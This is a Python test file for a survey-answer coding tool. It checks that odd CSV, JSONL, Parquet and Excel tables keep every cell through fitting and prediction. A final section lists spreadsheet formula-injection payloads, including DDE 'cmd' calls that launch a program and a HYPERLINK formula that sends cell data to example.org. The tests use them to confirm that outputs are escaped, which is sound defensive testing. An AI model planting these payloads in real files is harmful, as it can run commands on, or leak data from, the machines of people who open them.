"""Tables that nobody here wrote, from fit to coded output: no row, column or cell is lost."""

import csv
import datetime
import json
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from statistics import median

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from coding_tables import (
    ADDED,
    COLUMNS,
    HEADER,
    PHRASES,
    QUICK,
    answers,
    counts_of,
    read_csv,
    without_codes,
    write_csv,
)
from nldd.present.text import escape_formula

N, N_CODED = 60, 40
CODES = sorted(PHRASES)
DAY, MOMENT = datetime.date(2024, 2, 29), datetime.datetime(2023, 12, 31, 23, 59, 30)
# Every third waits for its codes.
ROWS = without_codes(answers(N), 3)


@dataclass
class Odd:
    """A file and its content: its cells, and how many answers have each code."""

    path: Path
    header: tuple
    rows: list
    options: tuple = COLUMNS
    counts: Counter = field(default_factory=lambda: counts_of(ROWS))
    delimiter: str = ","
    marks: tuple = ()
    notes: tuple = ()


def semicolons_and_quotes_over_lines(folder):
    tail = '\nsecond line, "quoted"\n\nfourth;'
    rows = [(a, b + tail, *more, codes.replace(";", ",")) for a, b, *more, codes in ROWS]
    how = {"encoding": "utf-8-sig", "delimiter": ";", "newline": "\r\n"}
    options = (*COLUMNS, "--sep", ",", "--features", "age,region")
    return Odd(write_csv(folder / "odd.csv", rows, **how), HEADER, rows, options, delimiter=";")


def repeated_and_empty_names(folder):
    header = ("", "answer", "answer", "codes", "codes", "")
    rows = [(a, "why", b, "", e, a) for a, b, _, _, e in ROWS]
    notes = (
        "Repeated column names got a number: 'answer (2)', 'codes (2)'.",
        "2 columns had no name: 'column 1', 'column 6'.",
    )
    options = ("--text", "answer (2)", "--labels", "codes (2)")
    return Odd(write_csv(folder / "odd.csv", rows, header), header, rows, options, notes=notes)


def emoji_and_right_to_left(folder):
    told = {
        "food": ("🍕", "الطعام 🍕 بارد"),
        "pay": ("أجر", "الراتب 💸 منخفض"),
        "managers": ("מנהל", "המנהל 👩\u200d💻 לא מקשיב"),
        "rooms": ("部屋", "המשרד 🔊 רועש\u200f"),
        "home office": ("é🏠", "お家で働きたい 🏠"),
    }
    header = ("№", "תשובה", "age", "region", "الرموز")
    rows = []
    for (a, _, c, _, codes), coded in zip(answers(N), ROWS, strict=True):
        names, texts = zip(*(told[code] for code in codes.split(";")), strict=True)
        rows.append((a, " ".join(texts), c, "מרכז", "؛".join(names) if coded[-1] else ""))
    path = write_csv(folder / "إجابات 🙂.csv", rows, header, encoding="utf-16")
    options = ("--text", "תשובה", "--labels", "الرموز", "--sep", "؛")
    notes = ("The file is not in UTF-8; it was read as utf-16-le.",)
    return Odd(path, header, rows, options, counts_of(rows, "؛"), notes=notes)


def marks_of_x(folder):
    header = ("id", *CODES, "answer")
    marks = [["x" if code in row[-1].split(";") else "" for code in CODES] for row in ROWS]
    rows = [(row[0], *own, row[1]) for row, own in zip(ROWS, marks, strict=True)]
    path = write_csv(folder / "odd.tsv", rows, header, delimiter="\t")
    options = ("--text", "answer", "--label-columns", ",".join(CODES))
    return Odd(path, header, rows, options, marks=tuple(CODES))


def json_lines(folder):
    header = ("id", "answer", "age", "member", "share", "codes")
    ages = [int(row[2]) if row[2] else None for row in ROWS]
    rows = [(i, r[1], ages[i], i % 2 == 0, i / 8, r[4]) for i, r in enumerate(ROWS)]
    path = folder / "odd.jsonl"
    path.write_text("\n".join(json.dumps(dict(zip(header, row, strict=True))) for row in rows))
    return Odd(path, header, rows, (*COLUMNS, "--features", "age,member,share"))


def parquet(folder):
    pyarrow = pytest.importorskip("pyarrow")
    from pyarrow.parquet import write_table

    header = ("id", "answer", "age", "day", "share", "codes")
    ages = [int(row[2]) if row[2] else None for row in ROWS]
    rows = [(i, r[1], ages[i], DAY, i / 8, r[4] or None) for i, r in enumerate(ROWS)]
    columns = map(list, zip(*rows, strict=True))
    write_table(pyarrow.table(dict(zip(header, columns, strict=True))), folder / "odd.parquet")
    return Odd(folder / "odd.parquet", header, rows, (*COLUMNS, "--features", "age,day"))


def excel(folder):
    """Dates, percents, numbers as codes, a second sheet, and formats and a merger below the end."""
    header = ("id", "answer", "day", "moment", "share", "codes", "note")
    rows = []
    for i, (_, text, _, _, codes) in enumerate(ROWS):
        numbers = [CODES.index(code) + 1 for code in codes.split(";") if code]
        cell = numbers[0] if len(numbers) == 1 else ";".join(map(str, numbers)) or None
        rows.append((i, text, DAY, MOMENT, i / 8, cell, None))
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Wave 2"
    for i, row in enumerate([header, *rows], 1):
        sheet.append(row)
        sheet.cell(i, 3).number_format = "dd.mm.yyyy"
        sheet.cell(i, 5).number_format = "0%"
    for cell in sheet[f"A{N + 2}:G{N + 5}"]:
        cell[0].number_format = cell[6].number_format = "0%"
    sheet.merge_cells(f"B{N + 3}:G{N + 5}")
    book.create_sheet("Notes").append(["not this one"])
    book.save(folder / "odd.xlsx")
    options = (*COLUMNS, "--features", "share,day")
    notes = ("The sheet 'Wave 2' was read, and not 'Notes'.",)
    return Odd(folder / "odd.xlsx", header, rows, options, counts_of(rows, place=5), notes=notes)


def as_text(cell):
    """A cell as a person would type it."""
    if isinstance(cell, bool):
        return str(cell).upper()
    if isinstance(cell, float):
        return f"{cell:g}"
    if isinstance(cell, datetime.date):
        return cell.isoformat()
    return "" if cell is None else str(cell)


def in_workbook(cell):
    """A cell as far as openpyxl tells: dates have a time, and empty text may be no cell."""
    if isinstance(cell, datetime.date) and not isinstance(cell, datetime.datetime):
        return datetime.datetime.combine(cell, datetime.time())
    return None if cell == "" else cell


def in_line(cell):
    return as_text(cell) if isinstance(cell, datetime.date) else cell


def read_workbook(path):
    rows = openpyxl.load_workbook(path).active.iter_rows(values_only=True)
    texts = [tuple(unescape(c) if isinstance(c, str) else c for c in row) for row in rows]
    cells = [tuple(map(in_workbook, row)) for row in texts]
    return cells[0], cells[1:]


def read_lines(path):
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return tuple(records[0]), [tuple(record.values()) for record in records]


def added_cells(odd, path):
    """Compare the cells of a coded file with those of its origin; return those that are new."""
    read, form = {
        ".csv": (lambda path: read_csv(path, delimiter=odd.delimiter), as_text),
        ".tsv": (lambda path: read_csv(path, delimiter="\t"), as_text),
        ".xlsx": (read_workbook, in_workbook),
        ".jsonl": (read_lines, in_line),
    }[path.suffix]
    header, rows = read(path)
    n_old = len(odd.header)
    names = (*ADDED, *(f"nldd_{name}" for name in odd.marks))
    assert header[n_old:] == names
    if path.suffix != ".jsonl":  # whose keys must be distinct
        assert tuple(name or "" for name in header[:n_old]) == odd.header
    assert [row[:n_old] for row in rows] == [tuple(map(form, row)) for row in odd.rows]
    return [dict(zip(names, map(as_text, row[n_old:]), strict=True)) for row in rows]


def check_added(odd, row):
    options = dict(zip(odd.options, odd.options[1:], strict=False))
    codes = set(row["nldd_codes"].split(options.get("--sep", ";"))) - {""}
    assert codes <= set(odd.counts)
    assert 0 <= float(row["nldd_theta"]) <= 1
    assert bool(row["nldd_why"]) == (row["nldd_status"] == "review")
    assert all(int(row[f"nldd_{name}"]) == (name in codes) for name in odd.marks)


ODD = (semicolons_and_quotes_over_lines, repeated_and_empty_names, emoji_and_right_to_left)
ODD += (marks_of_x, json_lines, parquet, excel)


@pytest.mark.parametrize("make", ODD, ids=lambda make: make.__name__)
def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, succeed):
    model, odd = tmp_path / "model.nldd", make(tmp_path)
    fitted = succeed("fit", odd.path, *odd.options, *QUICK, "-o", model, "--json").json
    assert (fitted["rows"], fitted["coded"], fitted["set_aside"]) == (N, N_CODED, N - N_CODED)
    assert fitted["labels"] == odd.counts
    assert tuple(fitted["notes"]) == odd.notes

    theta, coded = 1.0, []
    for name in ("coded.jsonl", "coded.xlsx", "coded.csv"):
        words = ("predict", model, odd.path, "-o", tmp_path / name, "--max-theta", theta)
        counts = succeed(*words, "--raw", "--json").json
        assert tuple(counts["notes"]) == odd.notes
        added = added_cells(odd, tmp_path / name)
        status = Counter(row["nldd_status"] for row in added)
        assert status == Counter(auto=counts["auto"], review=counts["review"], coded=N_CODED)
        for row in added:
            check_added(odd, row)
        theta = median(float(r["nldd_theta"]) for r in added if r["nldd_status"] != "coded")
        coded.append([list(row.values()) for row in added])
    assert coded[1] == coded[2]
    assert min(counts["auto"], counts["review"]) > 0


MALICIOUS = ("=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0")
MALICIOUS += ("@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1")
MALICIOUS += ('=HYPERLINK("http://example.org?"&A1,"click")',)


@pytest.fixture
def malicious(tmp_path, succeed):
    """A model that knows malicious answers and codes, and a table of new ones of the kind."""
    rows = [
        (a, f"{MALICIOUS[i % len(MALICIOUS)]} {b}", c, MALICIOUS[-i % len(MALICIOUS)], f"={e}")
        for i, (a, b, c, _, e) in enumerate(answers(60))
    ]
    header = ("id", "answer", "age", "=region", "codes")
    path = write_csv(tmp_path / "answers.csv", rows, header, quoting=csv.QUOTE_ALL)
    succeed("fit", path, *COLUMNS, "--features", "=region", *QUICK, "-o", tmp_path / "model.nldd")
    new = [(f"new {row[0]}", *row[1:4]) for row in rows]  # of other respondents
    write_csv(tmp_path / "new.csv", new, header[:4], quoting=csv.QUOTE_ALL)
    return tmp_path, header[:4], new


def predict(succeed, folder, out, *options, new="new.csv", theta=1):
    words = ("predict", folder / "model.nldd", folder / new, "-o", folder / out, *options)
    succeed(*words, "--max-theta", theta)


def test_formulas_are_guarded_in_csv_unless_raw(malicious, succeed):
    folder, header, rows = malicious
    predict(succeed, folder, "coded.csv", "--explain")
    found, coded = read_csv(folder / "coded.csv")
    assert found[:4] == ("id", "answer", "age", "'=region")
    for place in (1, 3):
        assert [row[place] for row in coded] == [escape_formula(row[place]) for row in rows]
        assert all(row[place].startswith("'") for row in coded)
    assert all(row[4].startswith("'=") and row[8].startswith("'") for row in coded)
    begins = tuple("=+-@\t\r\uff1d")
    cells = {cell for row in coded for cell in row if cell.lstrip(" ").startswith(begins)}
    assert {cell for cell in cells if not is_number(cell)} == set()
    predict(succeed, folder, "raw.csv", "--raw")
    found, coded = read_csv(folder / "raw.csv")
    assert (found[:4], [row[:4] for row in coded]) == (header, rows)
    assert all(row[4].startswith("=") for row in coded)


def is_number(cell):
    return cell.replace(".", "").replace("e-", "").removeprefix("-").isdecimal()


def test_formulas_are_guarded_in_review_and_audit_files(malicious, succeed):
    folder, _, rows = malicious
    predict(succeed, folder, "coded.csv", "--review", folder / "review.csv", theta=0)
    review = [row[1] for row in read_csv(folder / "review.csv")[1]]
    assert sorted(review) == sorted(escape_formula(row[1]) for row in rows)
    predict(succeed, folder, "raw.csv", "--raw")
    succeed("audit", folder / "raw.csv", "--sample", "5")
    assert all(row[1].startswith("'") for row in read_csv(folder / "raw.audit.csv")[1])
    succeed("audit", folder / "raw.csv", "--sample", "5", "--raw", "--force")
    assert all(row[1].startswith(MALICIOUS) for row in read_csv(folder / "raw.audit.csv")[1])


def test_formulas_come_through_workbooks_as_text(malicious, succeed):
    folder, header, rows = malicious
    predict(succeed, folder, "coded.xlsx")
    predict(succeed, folder, "again.xlsx", new="coded.xlsx")
    predict(succeed, folder, "back.csv", "--raw", new="again.xlsx")
    first = read_workbook(folder / "coded.xlsx")
    assert first[0][:4] == header
    assert [row[:4] for row in first[1]] == [tuple(map(in_workbook, row)) for row in rows]
    again = read_workbook(folder / "again.xlsx")
    assert [row[:11] for row in again[1]] == first[1]
    assert again[0][11:] == tuple(f"{name} (2)" for name in ADDED)
    assert [row[:4] for row in read_csv(folder / "back.csv")[1]] == rows
    cells = [cell for row in openpyxl.load_workbook(folder / "coded.xlsx").active for cell in row]
    assert {cell.data_type for cell in cells} <= {"inlineStr", "s", "n"}
